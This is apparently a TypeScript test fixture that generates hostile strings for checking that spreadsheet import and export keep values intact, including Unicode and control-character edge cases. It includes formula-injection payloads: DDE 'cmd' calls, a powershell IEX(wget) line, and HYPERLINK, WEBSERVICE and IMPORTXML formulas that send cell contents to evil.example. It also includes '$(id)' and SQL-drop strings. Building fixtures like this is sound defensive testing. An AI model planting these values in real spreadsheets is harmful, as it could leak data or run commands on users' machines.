/** Texts that a spreadsheet might run, change, hide or choke on; all of them must be read back as they are. */

const starts = ['=', '+', '-', '@', '\t', '\n', ' =', '\'', '"', '{', '＝', '\u00a0=']
const bodies = [
  '1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example/?x="&A1,"点击")', 'DDE("cmd";"/C calc";"x")', 'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/"&A1)', 'SUM(A1:A9)*0', '2+5+cmd|\'/C powershell IEX(wget evil)\'!A0', 'INDIRECT("A"&1)', 'EXEC("calc")',
]
const singles = [
  'TRUE', 'false', '#REF!', '#N/A', '1E+17', '330824197001010010', '0013800001111', '3/4', '2026-04-08', '10:30', '１２３', '50%', '￥12.00', '1,234', '(5)', '.5', '1e5', 'NaN', 'Infinity', '-0',
  '_x0041_', '_x000D_', 'a_x005F_b', '<b>粗</b>', '&lt;c&gt;', ']]>', '<!--', '<?xml?>', '&amp;', '\'\'', '""', '\\u0041', '%s%n', '${1+1}', '{{name}}', '`id`', '$(id)', '; DROP TABLE staff',
  'a\nb', 'a\n\nb', '\n', ' 前空', '后空 ', '  ', 'a\tb', '张  三', '𠮷野家', '👨‍👩‍👧‍👦', 'e\u0301', '\u202e反向', '\ufeff标', '零\u200b宽', '𝟙', '龘'.repeat(300), '长'.repeat(5000), '名字\u0000尾', '铃\u0007', '\u001b[31m红',
  '\u007f删', '半\ud83d对', '\udc00半', '非\ufffe字\uffff符', 'a\r\nb', 'a\rb',
]

/** At least 500 texts: every start before every body, and what is odd by itself, alone and within other text. */
export function hostileTexts(): readonly string[] {
  const formulas = starts.flatMap((start) => bodies.map((body) => start + body))
  const doubled = starts.flatMap((start) => starts.flatMap((other) => (start === other ? [] : [`${start}${other}1`])))
  const within = singles.flatMap((single) => [single, `=${single}`, `姓名${single}`, `${single}=1`])
  return [...new Set([...formulas, ...doubled, ...within])]
}
